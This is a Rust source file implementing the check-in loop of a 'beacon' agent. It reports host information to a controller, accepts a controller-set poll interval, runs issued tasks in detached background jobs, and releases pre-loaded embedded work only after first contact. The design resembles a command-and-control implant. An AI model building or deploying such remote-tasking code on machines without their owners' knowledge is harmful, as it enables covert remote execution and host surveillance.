//! The check-in loop.
//!
//! Two states: idle (between polls) and in-flight (request outstanding).
//! Interval expiry sends one check-in; any response or failure returns the
//! loop to idle after dispatching whatever work arrived. There is no
//! reconnect back-off: a failed poll is logged and the next one happens on
//! the same schedule, each as a fresh request.

use crate::config::{Config, USER_AGENT};
use crate::embedded;
use crate::error::BeaconError;
use crate::hostinfo;
use crate::results::ResultSink;
use crate::tasks::WorkItem;
use crate::transport::Transport;
use crate::util::{now_rfc3339, spawn_detached};
use serde::Deserialize;
use serde_json::{Map, Value};
use std::sync::Arc;
use std::time::Duration;

/// Body of a check-in response. Everything is optional: an absent or
/// malformed body simply means no work.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct CheckinResponse {
    pub tasks: Vec<WorkItem>,
    /// Controller-instructed poll interval, in seconds.
    pub interval: Option<u64>,
}

pub struct Beacon {
    config: Arc<Config>,
    transport: Arc<Transport>,
    seq: u64,
    interval: Duration,
}

impl Beacon {
    #[must_use]
    pub fn new(config: Arc<Config>, transport: Arc<Transport>) -> Self {
        let interval = config.checkin_interval;
        Self {
            config,
            transport,
            seq: 0,
            interval,
        }
    }

    /// Sequence number of the most recent attempt.
    #[must_use]
    pub fn seq(&self) -> u64 {
        self.seq
    }

    /// Current poll interval.
    #[must_use]
    pub fn interval(&self) -> Duration {
        self.interval
    }

    /// One check-in: collect status and host facts, POST, decode any issued
    /// work. The sequence number increments exactly once per attempt, before
    /// anything that can fail. A non-2xx reply is a failed attempt; a 2xx
    /// reply with an undecodable body is a successful attempt with no work.
    pub async fn poll_once(&mut self) -> Result<CheckinResponse, BeaconError> {
        self.seq += 1;

        let (output, error) = hostinfo::status_output().await;
        let extra = hostinfo::collect(&self.transport.api, &self.config).await;
        let body = self.payload(&output, &error, extra.beacon_fields());

        let mut request = self
            .transport
            .checkin
            .post(&self.config.controller_url)
            .header(reqwest::header::USER_AGENT, USER_AGENT)
            .header("X-Agent-ID", &self.config.agent_id)
            .json(&body);
        if let Some(key) = &self.config.tenant_key {
            request = request.header("X-Tenant-Key", key);
        }

        let response = request.send().await?;
        let status = response.status();
        tracing::info!(%status, seq = self.seq, agent_id = %self.config.agent_id, "check-in POST");
        if !status.is_success() {
            return Err(BeaconError::Status(status));
        }

        let decoded: CheckinResponse = response.json().await.unwrap_or_default();
        if let Some(secs) = decoded.interval.filter(|secs| *secs > 0) {
            let updated = Duration::from_secs(secs);
            if updated != self.interval {
                tracing::info!(interval_secs = secs, "check-in interval updated by controller");
                self.interval = updated;
            }
        }
        Ok(decoded)
    }

    /// Drive the loop forever. `deferred` holds the pre-loaded items released
    /// after the first successful check-in, never before the agent has
    /// proven it can reach the controller.
    pub async fn run(mut self, sink: Arc<ResultSink>, deferred: Vec<WorkItem>) {
        let mut deferred = Some(deferred);
        loop {
            match self.poll_once().await {
                Ok(response) => {
                    if let Some(items) = deferred.take() {
                        embedded::release(items, Arc::clone(&sink));
                    }
                    if !response.tasks.is_empty() {
                        tracing::info!(count = response.tasks.len(), "received tasks from controller");
                        for item in response.tasks {
                            dispatch(item, &sink);
                        }
                    }
                }
                Err(e) => tracing::warn!("check-in failed: {e}"),
            }
            tokio::time::sleep(self.interval).await;
        }
    }

    fn payload(&self, output: &str, error: &str, extra: Map<String, Value>) -> Map<String, Value> {
        let mut body = Map::new();
        body.insert("agent_id".into(), Value::String(self.config.agent_id.clone()));
        body.insert("seq".into(), Value::from(self.seq));
        body.insert("output".into(), Value::String(output.to_string()));
        body.insert("error".into(), Value::String(error.to_string()));
        body.insert("ts".into(), Value::String(now_rfc3339()));
        body.extend(extra);
        body
    }
}

/// Issued work runs fire-and-forget: execute, deliver the result, exit. The
/// loop never blocks on it.
fn dispatch(item: WorkItem, sink: &Arc<ResultSink>) {
    let sink = Arc::clone(sink);
    spawn_detached(async move {
        let result = crate::tasks::execute(&item).await;
        sink.deliver_task_result(&item.id, &result).await;
    });
}
